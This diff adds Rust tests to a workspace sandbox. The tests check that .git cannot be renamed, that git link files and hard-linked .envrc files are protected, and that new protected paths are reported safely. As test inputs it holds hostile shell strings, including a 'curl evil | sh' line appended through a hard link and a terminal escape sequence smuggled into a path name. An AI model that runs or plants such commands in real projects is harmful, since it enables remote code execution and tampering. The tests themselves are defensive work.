@@ -118,3 +118,71 @@ fn protected_path_created_during_the_run_is_reported() {
         ));
     });
 }
+
+#[test]
+fn git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only() {
+    for_each_identity(
+        "git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only",
+        |env| {
+            if !git_init(env) {
+                return skip(
+                    "git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only",
+                    "git is not installed",
+                );
+            }
+            // A worktree-style link: `.git` is a file naming the real git dir.
+            std::fs::create_dir(env.ws.join("wt")).expect("mkdir");
+            std::fs::write(env.ws.join("wt/.git"), "gitdir: ../.git\n").expect("write .git file");
+            let out = env.sh(
+                &[],
+                "mv .git .git-old; echo mv=$?; echo 'gitdir: evil' > wt/.git; echo link=$?",
+            );
+            out.code(0)
+                .stdout_has("mv=1")
+                .stdout_has("link=2")
+                .stderr_has("Device or resource busy")
+                .stderr_has("wt/.git: Read-only file system");
+            assert!(
+                env.ws.join(".git/config").exists(),
+                "the .git directory was moved:\n{out}"
+            );
+            assert_eq!(
+                std::fs::read_to_string(env.ws.join("wt/.git")).expect("read"),
+                "gitdir: ../.git\n"
+            );
+        },
+    );
+}
+
+#[test]
+fn new_protected_paths_are_reported_even_as_symlinks_and_with_control_characters() {
+    for_each_identity("new_protected_paths_are_reported", |env| {
+        if !git_init(env) {
+            return skip("new_protected_paths_are_reported", "git is not installed");
+        }
+        let out = env.sh(
+            &[],
+            "ln -s /proc/sys/kernel/ostype .git/commondir; mkdir -p \"$(printf 'x\\r\\033[2K')/.git/hooks\"",
+        );
+        out.code(0)
+            .stderr_has(".git/commondir (a symbolic link to /proc/sys/kernel/ostype) was created during the run")
+            .stderr_has("x\\r\\u{1b}[2K/.git/hooks was created during the run")
+            .lacks("\u{1b}[2K");
+    });
+}
+
+#[test]
+fn a_hard_linked_protected_file_is_refused() {
+    for_each_identity("a_hard_linked_protected_file_is_refused", |env| {
+        std::fs::write(env.ws.join(".envrc"), "echo ok\n").expect("write");
+        std::fs::hard_link(env.ws.join(".envrc"), env.ws.join("innocent")).expect("link");
+        let out = env.sh(&[], "echo 'curl evil | sh' >> innocent");
+        out.code(125)
+            .stderr_has(".envrc has 2 hard links")
+            .stderr_has("remove the extra links");
+        assert_eq!(
+            std::fs::read_to_string(env.ws.join(".envrc")).expect("read"),
+            "echo ok\n"
+        );
+    });
+}
